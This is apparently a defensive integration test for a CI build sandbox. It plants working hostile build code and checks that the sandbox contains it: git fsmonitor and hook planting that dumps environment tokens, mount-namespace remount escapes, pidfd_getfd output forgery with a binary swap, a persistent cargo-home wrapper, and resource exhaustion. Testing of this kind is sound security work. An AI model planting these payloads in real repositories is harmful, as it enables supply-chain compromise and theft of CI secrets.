import { createServer, type Server, type Socket } from 'node:net';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, readdir, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Pipeline, ORCHESTRATOR_REPOSITORY, startPipeline } from '@bllvm/demo';
import { type SandboxComponent, addCommit } from '@bllvm/sandbox';

// Five ways out of the build sandbox, each committed to a component repository the way someone
// with commit access would (files in the commit, nothing else) and run through the real nightly
// with the runner's tokens in its environment. Each test states what an honest sandbox guarantees,
// whatever its implementation: nothing planted runs with more power than a build script has,
// nothing outside the sandbox is written or published, nothing survives into the next build, and
// a build that exceeds its limits fails by name and leaves nothing running.
//
// A nightly costs minutes (the first builds the whole stack and its image), so attacks on
// components that do not depend on each other share one: each attacks one component, reports
// under its own name and is judged on its own outcome. The components:
//
//   bllvm           a leaf binary, upstream bllvm-node:  routes 1, 3, and 5 (processes, time)
//   bllvm-sdk       binaries, upstream bllvm-node:        route 2
//   governance-app  a leaf (binaries and an image):      routes 4, and 5 (/tmp, disk)
//
//   nightly 1 (cold): 1, 2, and 4's planting commit
//   nightly 2:        3, 4's next commit (and bllvm-sdk's build script dropped: governance-app's
//                     builds compile bllvm-sdk, so route 2 would otherwise run in them too)
//   nightly 3:        5, processes (bllvm) and /tmp (governance-app)
//   nightly 4:        5, time (bllvm) and disk (governance-app)

const [OWNER, REPO] = ORCHESTRATOR_REPOSITORY.split('/') as [string, string];
const BINARY = 'bllvm';
const WITH_UPSTREAM = 'bllvm-sdk';
const UPSTREAM = 'bllvm-node';
const LEAF = 'governance-app';
const ORCHESTRATOR_TOKEN = `ghp_${'Qr7'.repeat(12)}`;

let p: Pipeline;
/** Host-only folder: the sandbox cannot see it, only the host (its git, its executors) could write here. */
let host: string;
let tokens: string[];

// -- the attacks, as committed -------------------------------------------------------------------

/**
 * Route 1: cargo runs the wrapper for every compiler call, in whatever step makes it. It reports
 * to the listener (only a step with the network gets through), makes the checkout writable if it
 * is not, and plants programs in its .git that the host's git would run with the host's
 * environment; then it compiles as asked, so the build itself works.
 */
function route1Wrapper(component: string, port: number, fsmonitorLeak: string, hookLeak: string): string {
  return `#!/bin/bash
{ exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'route1 rustc-wrapper %s\\n' "\${*:2:4}" >&3; exec 3>&-; } 2>/dev/null
g=/src/${component}/.git
if [ -d "$g" ]; then
  ( : > "$g/.probe" ) 2>/dev/null || mount -o remount,rw,bind /src/${component} 2>/dev/null
  rm -f "$g/.probe" 2>/dev/null
  git config --file "$g/config" --get core.fsmonitor >/dev/null 2>&1 || git config --file "$g/config" core.fsmonitor 'env > ${fsmonitorLeak}; false' 2>/dev/null
  if [ ! -e "$g/hooks/post-checkout" ]; then
    mkdir -p "$g/hooks" 2>/dev/null && printf '#!/bin/sh\\nenv > ${hookLeak}\\n' > "$g/hooks/post-checkout" 2>/dev/null && chmod +x "$g/hooks/post-checkout" 2>/dev/null
  fi
fi
exec "$@"
`;
}

/**
 * Route 2: remount the upstream's checkout, /usr and /toolchain writable, first from a nested user
 * and mount namespace (whose root holds every capability there), then in the sandbox's own; then
 * write into the upstream's checkout only (/usr and /toolchain are the machine's) and plant an
 * fsmonitor in its .git/config that marks `ran` when the host's git runs it.
 */
function route2BuildScript(upstream: string, ran: string): string {
  const up = `/src/${upstream}`;
  const plant = `git config --file ${up}/.git/config core.fsmonitor 'touch ${ran}; false'`;
  return `use std::process::{Command, Stdio};
fn ok(prog: &str, args: &[&str]) -> bool {
    Command::new(prog).args(args).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status().map(|s| s.success()).unwrap_or(false)
}
fn main() {
    let nested = ok("/usr/bin/unshare", &["--user", "--map-root-user", "--mount", "sh", "-c", ${JSON.stringify(`mount -o remount,rw,bind ${up} && : > ${up}/PWNED-nested && ${plant}`)}]);
    println!("cargo:warning=route2 remount nested-namespace:upstream {}", nested);
    for (name, dir) in [("upstream", "${up}"), ("usr", "/usr"), ("toolchain", "/toolchain")] {
        let r = ok("/usr/bin/mount", &["-o", "remount,rw,bind", dir]) || ok("/bin/mount", &["-o", "remount,rw,bind", dir]);
        println!("cargo:warning=route2 remount {} {}", name, r);
    }
    let wrote = std::fs::write("${up}/PWNED", b"x").is_ok();
    let planted = ok("sh", &["-c", ${JSON.stringify(plant)}]);
    println!("cargo:warning=route2 write upstream {} fsmonitor {}", wrote, planted);
}
`;
}

/**
 * Route 3, two forgeries of what the build produced. (a) A detached process outlives the build
 * script: it waits for the rustc that links the binary, stops cargo while that rustc is a zombie
 * (so cargo has not yet copied the binary to target/release), swaps the linked file for a symlink
 * to `swapTo`, a host path that does not exist in the sandbox, and resumes cargo. The copy in
 * target/release is swapped too, in case cargo made it before it was stopped. (b) A
 * compiler-artifact line on cargo's own stdout (the build script's parent is cargo; its stdout is
 * a socket when Node started the sandbox, so it is taken with pidfd_getfd), for the root package's
 * manifest, naming `forged` through /target/.. so that it lands on the host file.
 */
function route3BuildScript(component: string, swapTo: string, forged: string): string {
  const forgedPath = `/target/${'../'.repeat(32)}${forged.slice(1)}`;
  const swapper = String.raw`cargo=$1
deps=/target/release/deps
while kill -0 "$cargo" 2>/dev/null; do
  for c in $(cat /proc/$cargo/task/*/children 2>/dev/null); do
    cmd=$(tr '\0' ' ' < /proc/$c/cmdline 2>/dev/null)
    case "$cmd" in *"--crate-name ${component} "*"--crate-type bin"*"--out-dir $deps"*) rustc=$c; break 2;; esac
  done
  sleep 0.02
done
[ -n "$rustc" ] || exit 0
kill -STOP "$cargo"
while read -r st < /proc/$rustc/stat; do case "$st" in *") Z "*) break;; esac; sleep 0.01; done
h=$(printf '%s' "$cmd" | sed -n 's/.*extra-filename=\([^ ]*\).*/\1/p')
ln -sfn ${swapTo} $deps/.swap && mv -fT $deps/.swap $deps/${component}$h
ln -sfn ${swapTo} $deps/.swap && mv -fT $deps/.swap /target/release/${component}
kill -CONT "$cargo"`;
  const message = JSON.stringify({
    reason: 'compiler-artifact',
    package_id: `path+file:///src/${component}#0.1.0`,
    manifest_path: `/src/${component}/Cargo.toml`,
    target: { kind: ['bin'], crate_types: ['bin'], name: `${component}-keys`, src_path: `/src/${component}/src/main.rs`, edition: '2021', doc: true, doctest: false, test: true },
    profile: { opt_level: '3', debuginfo: 0, debug_assertions: false, overflow_checks: false, test: false },
    features: [],
    filenames: [forgedPath],
    executable: forgedPath,
    fresh: false,
  });
  return `use std::io::Write;
use std::os::fd::FromRawFd;
use std::process::{Command, Stdio};
// pidfd_open and pidfd_getfd, which std does not wrap.
#[cfg(target_arch = "x86_64")]
fn syscall(n: usize, a: usize, b: usize, c: usize) -> isize {
    let r: isize;
    unsafe { std::arch::asm!("syscall", inlateout("rax") n as isize => r, in("rdi") a, in("rsi") b, in("rdx") c, lateout("rcx") _, lateout("r11") _, options(nostack)) };
    r
}
// A duplicate of cargo's stdout: through /proc when it is a pipe, else taken from cargo itself (a socket cannot be reopened).
fn cargo_stdout(cargo: u32) -> Option<std::fs::File> {
    if let Ok(f) = std::fs::OpenOptions::new().write(true).open(format!("/proc/{}/fd/1", cargo)) { return Some(f); }
    #[cfg(target_arch = "x86_64")]
    {
        let pidfd = syscall(434, cargo as usize, 0, 0);
        if pidfd >= 0 {
            let fd = syscall(438, pidfd as usize, 1, 0);
            if fd >= 0 { return Some(unsafe { std::fs::File::from_raw_fd(fd as i32) }); }
        }
    }
    None
}
fn main() {
    let cargo = std::os::unix::process::parent_id();
    let pid = cargo.to_string();
    let swapper = Command::new("setsid").args(["sh", "-c", ${JSON.stringify(swapper)}, "swapper", pid.as_str()])
        .stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().is_ok();
    let line = ${JSON.stringify(`\n${message}\n`)};
    let forged = cargo_stdout(cargo).map(|mut f| f.write_all(line.as_bytes()).is_ok()).unwrap_or(false);
    println!("cargo:warning=route3 swapper {} forged-message {}", swapper, forged);
}
`;
}

/**
 * Route 4: the build script writes a cargo config into the cargo home naming a wrapper it also
 * writes there. The wrapper reports through the two channels a build legitimately has: the
 * listener (from a step with the network) and a file in its own target dir.
 */
function route4BuildScript(port: number, marker: string): string {
  const wrapper = `#!/bin/bash
{ exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'route4 cargo-home-wrapper %s\\n' "\${*:2:4}" >&3; exec 3>&-; } 2>/dev/null
echo ran >> /target/${marker} 2>/dev/null
exec "$@"
`;
  return `use std::os::unix::fs::PermissionsExt;
fn main() {
    let wrapper = std::fs::write("/cargo-home/hostile-wrapper", ${JSON.stringify(wrapper)}).is_ok()
        && std::fs::set_permissions("/cargo-home/hostile-wrapper", std::fs::Permissions::from_mode(0o755)).is_ok();
    let config = std::fs::write("/cargo-home/config.toml", ${JSON.stringify('[build]\nrustc-wrapper = "/cargo-home/hostile-wrapper"\n')}).is_ok();
    println!("cargo:warning=route4 planted wrapper {} config {}", wrapper, config);
}
`;
}

/**
 * Route 5: one build script for every limit, the case read from a file of the commit, so each case
 * is a one-line commit. Bounded throughout: 300 processes at most (each ending by itself after a
 * minute, none waited for), 200 MiB, a sleep of `sleepSeconds`.
 */
function route5BuildScript(sleepArg: string, sleepSeconds: number): string {
  return `use std::io::Write;
use std::process::{Command, Stdio};
fn fill(path: &str, mib: usize) -> usize {
    let Ok(mut f) = std::fs::File::create(path) else { return 0 };
    let chunk = vec![0x5a_u8; 1 << 20];
    (0..mib).take_while(|_| f.write_all(&chunk).is_ok()).count()
}
fn main() {
    let case = include_str!("hostile/limit").trim();
    let _ = std::fs::remove_file("/target/hostile-fill");
    match case {
        "processes" => {
            // Bounded: 300 at most, each ending by itself after a minute; none is waited for.
            let started = (0..300).take_while(|_| Command::new("sleep").arg("${sleepArg}").stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().is_ok()).count();
            println!("cargo:warning=route5 started {} of 300 processes", started);
        }
        "disk" => println!("cargo:warning=route5 wrote {} of 200 MiB to /target", fill("/target/hostile-fill", 200)),
        "tmp" => println!("cargo:warning=route5 wrote {} of 64 MiB to /tmp", fill("/tmp/hostile-fill", 64)),
        "time" => {
            std::thread::sleep(std::time::Duration::from_secs(${sleepSeconds}));
            println!("cargo:warning=route5 slept {} s and finished", ${sleepSeconds});
        }
        _ => {}
    }
}
`;
}

// -- a listener the attacks report to ------------------------------------------------------------

/** Lines received, with the phase the test was in: which nightly (or none) a connection came from. */
interface Reached {
  phase: string;
  line: string;
}
let server: Server;
let port: number;
let phase = 'setup';
const reached: Reached[] = [];
const sockets = new Set<Socket>();

/** Bounded: at most 1000 connections, 512 bytes and 5 s each; only 127.0.0.1. */
async function startListener(): Promise<void> {
  server = createServer((s) => {
    sockets.add(s);
    const at = phase;
    let got = '';
    s.setTimeout(5000, () => s.destroy());
    s.on('data', (b) => {
      got += b.toString('utf8');
      if (got.length > 512) s.destroy();
    });
    s.on('close', () => {
      sockets.delete(s);
      reached.push({ phase: at, line: got.slice(0, 512).split('\n')[0]! || '(connected, sent nothing)' });
    });
    s.on('error', () => undefined);
  });
  server.maxConnections = 1000;
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  port = (server.address() as { port: number }).port;
}

async function stopListener(): Promise<void> {
  for (const s of sockets) s.destroy();
  await new Promise<void>((ok) => server?.close(() => ok()) ?? ok());
}

const reachedBy = (route: string, inPhase?: string) => reached.filter((r) => r.line.startsWith(route) && (inPhase === undefined || r.phase === inPhase));

// -- the pipeline ----------------------------------------------------------------------------------

const hostPath = {
  checkout: (repo: string) => join(p.sw.ws.dir, '.bllvm', 'sources', repo),
  targetDirs: (component: string) => join(p.sw.ws.dir, '.bllvm', 'target', component),
  cargoHome: (component: string) => join(p.sw.ws.dir, '.bllvm', 'cargo-home', component),
};

interface NightlyRun {
  exitCode: number;
  out: string;
  releasesBefore: number;
  releasesAfter: number;
}

const releases = () => p.api.state.listReleases(OWNER, REPO);

/** The nightly as the workflow runs it, with the runner's tokens set; `label` marks what reaches the listener meanwhile. */
async function nightly(label: string): Promise<NightlyRun> {
  const releasesBefore = releases().length;
  phase = label;
  try {
    const r = await p.sw.ws.cli('nightly', '-c', 'sandbox');
    return { exitCode: r.exitCode, out: r.stdout + r.stderr, releasesBefore, releasesAfter: releases().length };
  } finally {
    // Connections still closing belong to this nightly.
    await new Promise((ok) => setTimeout(ok, 200));
    phase = 'between nightlies';
  }
}

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true, recursive: true }).catch(() => [])) if (e.isFile()) out.push(join(e.parentPath, e.name));
  return out;
}

/** Where something the build handed over ends up: dist/, Nx's cache and outputs, every uploaded asset (archives unpacked). */
async function holders(): Promise<{ where: string; bytes: Buffer }[]> {
  const found: { where: string; bytes: Buffer }[] = [];
  for (const dir of ['dist', '.nx']) for (const f of await filesUnder(join(p.sw.ws.dir, dir))) found.push({ where: f, bytes: await readFile(f) });
  for (const rel of releases())
    for (const a of p.api.state.listAssets(rel.id)) {
      found.push({ where: `release ${rel.tagName} asset ${a.name}`, bytes: a.bytes });
      if (a.bytes[0] === 0x1f && a.bytes[1] === 0x8b) found.push({ where: `release ${rel.tagName} asset ${a.name} (unpacked)`, bytes: gunzipSync(a.bytes) });
    }
  return found;
}

async function whereIs(needle: string): Promise<string[]> {
  return (await holders()).filter((h) => h.bytes.includes(needle)).map((h) => h.where);
}

/** Keys a checkout's .git/config sets that make the host's git run a program. */
async function gitProgramKeys(checkout: string): Promise<string[]> {
  const config = await readFile(join(checkout, '.git', 'config'), 'utf8');
  return config
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => /^(fsmonitor|hookspath)\s*=/i.test(l));
}

/** Hooks a checkout holds (git's samples aside): programs the host's git runs on checkout, commit, … */
async function hooksIn(checkout: string): Promise<string[]> {
  return (await readdir(join(checkout, '.git', 'hooks')).catch(() => [] as string[])).filter((h) => !h.endsWith('.sample'));
}

/** Undo what an attack planted in a host checkout, so the next route starts from a clean one. */
async function scrubCheckout(repo: string): Promise<void> {
  const dir = hostPath.checkout(repo);
  for (const key of ['core.fsmonitor', 'core.hooksPath'])
    await execa('git', ['config', '--file', join(dir, '.git', 'config'), '--unset-all', key], { reject: false });
  for (const h of await hooksIn(dir)) await unlink(join(dir, '.git', 'hooks', h));
}

function tokensIn(text: string | Buffer): boolean {
  return tokens.some((t) => text.includes(t));
}

/** Undo what an attack left in a component's cargo home, so the next nightly starts from a clean one. */
async function scrubCargoHome(component: string): Promise<void> {
  for (const f of ['config.toml', 'hostile-wrapper']) await rm(join(hostPath.cargoHome(component), f), { force: true });
}

/** Set options on every cargo target of a component, in the workspace's project.json, committed. */
async function setCargoOptions(component: string, targets: string[], options: Record<string, unknown>): Promise<void> {
  const file = join(p.sw.ws.dir, 'apps', component, 'project.json');
  const project = JSON.parse(await readFile(file, 'utf8')) as { targets?: Record<string, { options?: Record<string, unknown> }> };
  project.targets ??= {};
  for (const name of targets) project.targets[name] = { ...project.targets[name], options: { ...project.targets[name]?.options, ...options } };
  await writeFile(file, `${JSON.stringify(project, null, 2)}\n`);
  await p.sw.ws.git('commit', '-qam', `${component}: ${Object.keys(options).join(', ')}`);
}

beforeAll(async () => {
  host = await mkdtemp(join(tmpdir(), 'bllvm-host-only-'));
  await startListener();
  p = await startPipeline({ tag: false });
  tokens = [p.token, ORCHESTRATOR_TOKEN];
  // What a runner's job environment holds (see .github/workflows): the release and deploy tokens.
  Object.assign(p.sw.ws.env, { ORCHESTRATOR_TOKEN, BLLVM_DEPLOY_TOKEN: p.token, RUNNER_SECRET: ORCHESTRATOR_TOKEN });
}, 600_000);

afterAll(async () => {
  await stopListener();
  await p?.stop();
  if (host) await rm(host, { recursive: true, force: true });
});

// -- nightly 1: routes 1, 2 and the planting commit of route 4 -------------------------------------

const N1 = 'nightly 1';
let first: NightlyRun;
const leaks = {
  route1Fsmonitor: () => join(host, 'route1-fsmonitor-env'),
  route1Hook: () => join(host, 'route1-post-checkout-env'),
  route2Fsmonitor: () => join(host, 'route2-fsmonitor-ran'),
};
const route4Marker = 'hostile-cargo-home-wrapper-ran';

describe('nightly 1 (cold)', () => {
  beforeAll(async () => {
    await addCommit(p.sw.org, BINARY, {
      message: 'bllvm: compiler wrapper',
      files: {
        '.cargo/config.toml': '[build]\nrustc-wrapper = "hostile/rustc-wrapper"\n',
        'hostile/rustc-wrapper': route1Wrapper(BINARY, port, leaks.route1Fsmonitor(), leaks.route1Hook()),
      },
      executable: ['hostile/rustc-wrapper'],
    });
    await addCommit(p.sw.org, WITH_UPSTREAM, { message: 'sdk: build script', files: { 'build.rs': route2BuildScript(UPSTREAM, leaks.route2Fsmonitor()) } });
    await addCommit(p.sw.org, LEAF, { message: 'governance-app: build script', files: { 'build.rs': route4BuildScript(port, route4Marker) } });
    first = await nightly(N1);
  }, 1_200_000);

  describe('1. a rustc-wrapper in the checkout\'s own .cargo/config.toml', () => {
    afterAll(async () => {
      await scrubCheckout(BINARY);
    });

    it('never ran with the network: no step reached a port on the host', () => {
      expect(reachedBy('route1').map((r) => `${r.phase}: ${r.line}`), 'connections from the wrapper').toEqual([]);
    });

    it('planted nothing the host\'s git runs: no fsmonitor or hooksPath in the checkout\'s .git/config, no hook', async () => {
      const dir = hostPath.checkout(BINARY);
      expect.soft(await gitProgramKeys(dir), `${dir}/.git/config`).toEqual([]);
      expect.soft(await hooksIn(dir), `${dir}/.git/hooks`).toEqual([]);
    });

    it('the host never ran a planted program, and no token left the runner', async () => {
      for (const leak of [leaks.route1Fsmonitor(), leaks.route1Hook()]) {
        const text = existsSync(leak) ? await readFile(leak, 'utf8') : undefined;
        // Never print the file: it would hold the tokens.
        expect.soft(text === undefined ? 'not run' : tokensIn(text) ? 'ran on the host, with the tokens in its environment' : 'ran on the host', leak).toBe('not run');
      }
      expect.soft(tokensIn(first.out), 'CLI output holds a token').toBe(false);
      for (const h of await holders()) expect.soft(tokensIn(h.bytes), `${h.where} holds a token`).toBe(false);
    });
  });

  describe('2. a build script that remounts the read-only mounts writable', () => {
    afterAll(async () => {
      await scrubCheckout(UPSTREAM);
      for (const f of ['PWNED', 'PWNED-nested']) await rm(join(hostPath.checkout(UPSTREAM), f), { force: true });
    });

    it('remounted nothing writable: /src/<upstream>, /usr and /toolchain stay read-only', () => {
      const remounts = [...first.out.matchAll(/route2 remount (\S+) (true|false)/g)].map((m) => `${m[1]} ${m[2]}`);
      expect(
        [...new Set(remounts.filter((r) => r.endsWith(' true')))],
        `remounts that succeeded (all reported: ${[...new Set(remounts)].join(', ') || 'none'})`,
      ).toEqual([]);
    });

    it('wrote nothing into the upstream checkout or its .git/config, and the host ran nothing planted there', async () => {
      const dir = hostPath.checkout(UPSTREAM);
      const written = ['PWNED', 'PWNED-nested'].filter((f) => existsSync(join(dir, f)));
      expect.soft(written, `files written into ${dir}`).toEqual([]);
      expect.soft(await gitProgramKeys(dir), `${dir}/.git/config`).toEqual([]);
      expect.soft(existsSync(leaks.route2Fsmonitor()), 'the host\'s git ran the planted fsmonitor').toBe(false);
    });
  });
});

// -- nightly 2: route 3, and route 4's next commit -------------------------------------------------

const N2 = 'nightly 2';
let second: NightlyRun;

describe('nightly 2', () => {
  const swapSecret = `route3-swapped-${randomBytes(12).toString('hex')}`;
  const forgedSecret = `route3-forged-${randomBytes(12).toString('hex')}`;

  beforeAll(async () => {
    // Host files the sandbox cannot see: whatever carries their contents out was read by the host.
    const swapFile = join(host, 'route3-swap-target');
    const forgedFile = join(host, `${BINARY}-keys`);
    await writeFile(swapFile, `${swapSecret}\n`);
    await writeFile(forgedFile, `${forgedSecret}\n`);
    await addCommit(p.sw.org, BINARY, {
      message: 'bllvm: build script',
      files: { 'build.rs': route3BuildScript(BINARY, swapFile, forgedFile) },
      remove: ['.cargo/config.toml', 'hostile/rustc-wrapper'],
    });
    await addCommit(p.sw.org, WITH_UPSTREAM, { message: 'sdk: drop the build script', remove: ['build.rs'] });
    // Route 4's next commit has no build script and no cargo config: whatever runs now was left behind.
    await addCommit(p.sw.org, LEAF, { message: 'governance-app: drop the build script', remove: ['build.rs'] });
    for (const f of await filesUnder(hostPath.targetDirs(LEAF))) if (f.endsWith(`/${route4Marker}`)) await unlink(f);
    second = await nightly(N2);
  }, 1_200_000);

  describe('3. outputs the build script forges', () => {
    it('the binary swapped for a symlink to a host file carried none of it into dist/, the Nx cache or the release', async () => {
      expect(await whereIs(swapSecret), 'holders of the host file the symlink named').toEqual([]);
    });

    it('the forged artifact message copied no host file into dist/, the Nx cache or the release', async () => {
      expect(await whereIs(forgedSecret), 'holders of the host file the forged message named').toEqual([]);
      expect(second.out).not.toContain(forgedSecret);
    });
  });

  describe('4. a rustc-wrapper a build script leaves in the cargo home', () => {
    afterAll(async () => {
      await scrubCargoHome(LEAF);
    });

    it('the planted wrapper never ran for the next commit: nothing reached the host, nothing marked the target dir', async () => {
      expect(first.out, 'the build script of the planting commit ran').toMatch(/route4 planted wrapper/);
      expect.soft(reachedBy('route4', N2).map((r) => r.line), 'connections from the wrapper during the next nightly').toEqual([]);
      const marks = (await filesUnder(hostPath.targetDirs(LEAF))).filter((f) => f.endsWith(`/${route4Marker}`));
      expect.soft(marks, 'target dirs the wrapper marked during the next nightly').toEqual([]);
    });
  });
});

// -- nightlies 3 and 4: limits ---------------------------------------------------------------------

describe('5. a build script that exceeds its limits', () => {
  // A duration no other process on the machine uses, so what is left running is recognisably ours.
  const SLEEP = '60.000271828';
  const LIMITS = { processes: 64, memoryMiB: 1024, diskMiB: 64, tmpMiB: 16 };
  const TIMEOUT_SECONDS = 30;
  const named = (component: string, limit: string) => new RegExp(`${component}[^\\n]*${limit}`, 'i');
  // Two nightlies, each with one case on each of two components that do not depend on each other.
  const rounds: { component: SandboxComponent; limit: string; outcome: RegExp; named: RegExp }[][] = [
    [
      { component: BINARY, limit: 'processes', outcome: /route5 started 300 of 300 processes/, named: named(BINARY, 'process(es)? limit') },
      { component: LEAF, limit: 'tmp', outcome: /route5 wrote 64 of 64 MiB to \/tmp/, named: named(LEAF, '(tmp|disk|memory) limit') },
    ],
    [
      { component: BINARY, limit: 'time', outcome: /route5 slept \d+ s and finished/, named: named(BINARY, '(time limit|timed out)') },
      { component: LEAF, limit: 'disk', outcome: /route5 wrote 200 of 200 MiB to \/target/, named: named(LEAF, 'disk limit') },
    ],
  ];
  const runs: (NightlyRun & { leftOver: string[] })[] = [];

  /** Processes on the machine still running what a build script started (by its unique duration). */
  async function leftOver(): Promise<{ pid: number; cmd: string }[]> {
    const r = await execa('pgrep', ['-a', '-f', `sleep ${SLEEP}`], { reject: false });
    return String(r.stdout)
      .split('\n')
      .filter(Boolean)
      .map((l) => ({ pid: Number(l.split(' ')[0]), cmd: l.slice(l.indexOf(' ') + 1) }))
      .filter((x) => x.cmd.startsWith('sleep '));
  }

  beforeAll(async () => {
    const options = { limits: LIMITS, timeoutSeconds: TIMEOUT_SECONDS };
    await setCargoOptions(BINARY, ['build', 'test'], options);
    await setCargoOptions(LEAF, ['compile', 'test'], options);
    const buildRs = route5BuildScript(SLEEP, TIMEOUT_SECONDS + 30);
    for (const [i, round] of rounds.entries()) {
      for (const c of round)
        await addCommit(p.sw.org, c.component, {
          message: `${c.component}: ${c.limit}`,
          files: i === 0 ? { 'build.rs': buildRs, 'hostile/limit': `${c.limit}\n` } : { 'hostile/limit': `${c.limit}\n` },
        });
      const run = await nightly(`nightly ${3 + i}`);
      const left = await leftOver();
      // Never leave them behind on a shared machine, whatever the result: ended by their ids.
      for (const x of left) process.kill(x.pid, 'SIGKILL');
      runs.push({ ...run, leftOver: left.map((x) => `${x.pid} ${x.cmd}`) });
    }
  }, 1_800_000);

  for (const [i, round] of rounds.entries())
    for (const c of round)
      it(`${c.limit} (${c.component}, nightly ${3 + i}): the task fails by name, publishes nothing, and leaves nothing running`, () => {
        const r = runs[i]!;
        // Each outcome on its own: one that fails must not hide the others.
        expect.soft(r.out.match(c.outcome)?.[0] ?? 'not done', 'what the build script got done').toBe('not done');
        expect.soft(r.exitCode, 'the nightly\'s exit code').not.toBe(0);
        expect.soft(r.releasesAfter - r.releasesBefore, 'releases published').toBe(0);
        expect.soft(r.out, 'the output names the component and the limit').toMatch(c.named);
        expect.soft(r.leftOver, 'processes the build scripts started, still running after the nightly').toEqual([]);
      });
});
